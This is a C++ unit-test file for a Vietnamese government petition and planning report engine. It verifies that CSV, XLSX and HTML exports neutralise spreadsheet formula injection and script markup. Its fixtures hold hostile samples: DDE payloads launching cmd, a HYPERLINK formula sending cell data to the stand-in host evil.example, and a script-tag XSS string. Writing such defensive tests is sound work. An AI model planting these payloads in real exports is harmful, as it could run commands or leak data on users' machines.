// Issue 18: citizens' text must never become a formula when a spreadsheet program opens a
// report. Records whose titles, contents, names and assignees, and configuration whose unit
// names, start with every dangerous character (= + - @ tab CR) go through the engine into the
// 6-month report written in every format. Every CSV cell is inspected; the XLSX sheet XML is
// read back (no <f> element, the text kept as strings); the HTML escapes markup.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <regex>
#include <set>
#include <sstream>

#include "core/clock.h"
#include "core/timeutil.h"
#include "engine/test_support.h"

namespace danvan {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

std::string ReadFile(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// RFC 4180 (the writer's dialect: ',' separator, '"' quoting, CRLF records, UTF-8 BOM).
std::vector<std::vector<std::string>> ParseCsv(std::string s) {
  if (s.rfind("\xEF\xBB\xBF", 0) == 0) s.erase(0, 3);
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false, was_quoted = false;
  for (size_t i = 0; i < s.size(); ++i) {
    const char c = s[i];
    if (quoted) {
      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"' && cell.empty() && !was_quoted) {
      quoted = was_quoted = true;
    } else if (c == ',') {
      rows.back().push_back(cell);
      cell.clear();
      was_quoted = false;
    } else if (c == '\r' && i + 1 < s.size() && s[i + 1] == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      was_quoted = false;
      rows.emplace_back();
      ++i;
    } else {
      cell += c;
    }
  }
  if (rows.back().empty() && cell.empty()) rows.pop_back();
  else rows.back().push_back(cell);
  return rows;
}

// The dangerous first characters and one hostile value for each (OWASP CSV injection).
const std::vector<std::string>& Hostile() {
  static const std::vector<std::string> k = {
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1 khiếu nại có tab đầu",
      "\r=1+1 khiếu nại có CR đầu",
  };
  return k;
}

json Petition(const std::string& id, const std::string& title, const std::string& assignee) {
  return {{"kind", "petition"}, {"source", "motcua-hp"}, {"id", id}, {"unit", "SGDDT.TTRA"},
          {"version", 1}, {"event_time", "2023-03-01T09:00:00+07:00"},
          {"data", {{"petition_kind", "complaint"}, {"round", 1}, {"title", title},
                    {"content", title + " — nội dung đơn"}, {"received_at", "2023-03-01"},
                    {"channel", "direct"}, {"status", "received"}, {"complex", true},
                    {"petitioner_count", 1}, {"assignee", assignee},
                    {"petitioners", {{{"name", title}, {"phone", "0912345678"}}}}}}};
}

json PlanTask(int no, const std::string& plan_id, const std::string& title) {
  return {{"kind", "plan_task"}, {"source", "motcua-hp"}, {"id", "KH-DV-2023-" + std::to_string(no)},
          {"unit", "SGDDT.VP"}, {"version", 1}, {"event_time", "2023-01-10T09:00:00+07:00"},
          {"data", {{"plan_id", plan_id}, {"task_no", no}, {"title", title}, {"lead_unit", "SGDDT.VP"},
                    {"start", "2023-01-01"}, {"due", "2023-05-31"}, {"progress_percent", 40},
                    {"status", "in_progress"}}}};
}

json DvkModel(int no, const std::string& name, const std::string& decision) {
  return {{"kind", "dvk_model"}, {"source", "motcua-hp"}, {"id", "DVK-2023-" + std::to_string(no)},
          {"unit", "SGDDT.VP"}, {"updated_at", "2023-03-01T09:00:00+07:00"},
          {"event_time", "2023-03-01T09:00:00+07:00"},
          {"data", {{"name", name}, {"model_type", "model"}, {"field", "culture_society"},
                    {"registered_at", "2023-03-01"}, {"year", 2023}, {"recognition_level", "department"},
                    {"recognition_decision", decision}, {"recognised_at", "2023-04-01"}}}};
}

// A computed number as the report writes it: "-2", "+3", "-1,5", "+3,2 điểm %".
bool IsComputedNumber(const std::string& s) {
  static const std::regex kNumber(R"(^[+-][0-9][0-9.]*(,[0-9]+)?( điểm %)?$)");
  return std::regex_match(s, kNumber);
}

class ReportInjectionTest : public ::testing::Test {
 protected:
  void SetUp() override {
    config_dir_ = dir_.path() / "config";
    fs::copy(std::string(DANVAN_SOURCE_ROOT) + "/config", config_dir_, fs::copy_options::recursive);
    // Unit names (configuration) starting with each dangerous character.
    const fs::path units_file = config_dir_ / "units" / "haiphong-sgddt.json";
    json units = json::parse(ReadFile(units_file));
    const std::vector<std::string> codes = {"SGDDT", "SGDDT.VP", "SGDDT.TTRA", "SGDDT.GDTRH",
                                            "SGDDT.GDMNTH", "SGDDT.GDNNTX"};
    for (auto& u : units["units"])
      for (size_t i = 0; i < codes.size(); ++i)
        if (u["code"] == codes[i]) u["name"] = Hostile()[i];
    std::ofstream(units_file, std::ios::binary | std::ios::trunc) << units.dump(2);
    const int64_t now = *ParseIsoTime("2023-07-01T08:00:00+07:00");
    engine_ = testing::OpenEngine(
        testing::ConfigFor(dir_.path() / "db.sqlite", {{"config_dir", config_dir_.string()}}),
        std::make_shared<FunctionClock>([now] { return now; }));
    for (size_t i = 0; i < Hostile().size(); ++i) {
      const std::string& h = Hostile()[i];
      Submit(Petition("DT-2023-00010" + std::to_string(i), h, h));
      Submit(PlanTask(static_cast<int>(i + 1), h, h));
      Submit(DvkModel(static_cast<int>(i + 1), h, h));
    }
    // Markup and a ';' (the list separator of Vietnamese Windows, which Excel then splits on).
    Submit(Petition("DT-2023-000200", "<script>alert('xss')</script> Khiếu nại", "Cán bộ;=1+1"));
    Submit(Petition("DT-2023-000201", "Khiếu nại về học phí;=HYPERLINK(\"http://evil.example\")", "Trần Văn Bình"));
    out_ = dir_.path() / "reports" / "six-month";  // inside reports.dir (default: beside the database)
    auto r = engine_->Query(json{{"op", "report"}, {"kind", "six_month"}, {"year", 2023},
                                 {"format", "all"}, {"path", out_.string()}}.dump());
    ASSERT_TRUE(r.ok()) << r.status().ToString();
  }

  void Submit(const json& ev) {
    auto a = engine_->Submit(ev.dump());
    ASSERT_EQ(a.result["outcome"], "accepted") << a.result.dump();
  }

  testing::TempDir dir_;
  fs::path config_dir_, out_;
  std::unique_ptr<Engine> engine_;
};

TEST_F(ReportInjectionTest, EveryCsvCellStartingWithAFormulaCharacterIsTextOrAComputedNumber) {
  std::multiset<std::string> cells;
  size_t files = 0, computed_signed = 0;
  for (const auto& entry : fs::directory_iterator(out_ / "csv")) {
    ++files;
    const std::string raw = ReadFile(entry.path());
    const auto rows = ParseCsv(raw);
    ASSERT_FALSE(rows.empty()) << entry.path();
    for (size_t r = 0; r < rows.size(); ++r) {
      EXPECT_EQ(rows[r].size(), rows[0].size()) << entry.path() << " row " << r;
      for (const std::string& c : rows[r]) {
        cells.insert(c);
        if (c.empty() || std::string("=+-@\t\r").find(c[0]) == std::string::npos) continue;
        // Only numbers the report computed may start so; never record or configuration text.
        EXPECT_TRUE(IsComputedNumber(c)) << entry.path().filename() << " row " << r << ": [" << c << "]";
        ++computed_signed;
      }
    }
    // A ';' inside a cell is always quoted: a ';'-separated reading keeps the cell whole.
    for (size_t p = raw.find(";="); p != std::string::npos; p = raw.find(";=", p + 1)) {
      const size_t line = raw.rfind('\n', p);
      const std::string before = raw.substr(line == std::string::npos ? 0 : line + 1, p - (line == std::string::npos ? 0 : line + 1));
      const size_t quotes = std::count(before.begin(), before.end(), '"');
      EXPECT_EQ(quotes % 2, 1u) << entry.path().filename() << ": unquoted ';' before a formula at " << p;
    }
  }
  EXPECT_GE(files, 10u);
  // Each hostile value reached the CSV, as text: the same characters after a single quote.
  for (const std::string& h : Hostile()) {
    EXPECT_GE(cells.count("'" + h), 3u) << "[" << h << "] not found neutralised";  // title, assignee, unit...
    EXPECT_EQ(cells.count(h), 0u) << "[" << h << "] written as is";
  }
  EXPECT_GE(cells.count("Khiếu nại về học phí;=HYPERLINK(\"http://evil.example\")"), 1u);
  (void)computed_signed;
}

TEST_F(ReportInjectionTest, XlsxKeepsRecordTextAsStringsNeverFormulas) {
  const fs::path dump = dir_.path() / "xlsx.json";
  const std::string cmd = "python3 '" + (fs::path(DANVAN_SOURCE_ROOT) / "tests/report_ops/xlsx_cells.py").string() +
                          "' '" + (out_ / "report.xlsx").string() + "' > '" + dump.string() + "'";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << cmd;
  const json x = json::parse(ReadFile(dump));
  EXPECT_TRUE(x["formulas"].empty()) << x["formulas"].dump();
  // XML turns a literal CR into LF when read back, and OOXML may escape it as _x000D_: compare
  // the text with CRs spelled as LF.
  auto normal = [](std::string s) {
    for (size_t p = s.find("_x000D_"); p != std::string::npos; p = s.find("_x000D_", p)) s.replace(p, 7, "\r");
    std::replace(s.begin(), s.end(), '\r', '\n');
    return s;
  };
  std::multiset<std::string> strings;
  for (const auto& v : x["strings"]) strings.insert(normal(v.get<std::string>()));
  for (std::string h : Hostile()) {
    h = normal(h);
    // A string cell holds the text itself: XLSX needs no quote to keep it from being a formula.
    EXPECT_GE(strings.count(h), 3u) << "[" << h << "]";
    EXPECT_EQ(strings.count("'" + h), 0u) << "[" << h << "]";
  }
  EXPECT_FALSE(x["numbers"].empty());  // the computed figures stay numbers
}

TEST_F(ReportInjectionTest, HtmlEscapesRecordText) {
  const std::string html = ReadFile(out_ / "report.html");
  EXPECT_EQ(html.find("<script>alert"), std::string::npos);
  EXPECT_NE(html.find("&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt; Khiếu nại"), std::string::npos);
  EXPECT_NE(html.find("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Bấm vào&quot;)"), std::string::npos);
  // The JSON report keeps the text exactly (JSON is not evaluated).
  const json report = json::parse(ReadFile(out_ / "report.json"));
  EXPECT_NE(report.dump().find(json(Hostile()[0]).dump()), std::string::npos);
}

}  // namespace
}  // namespace danvan
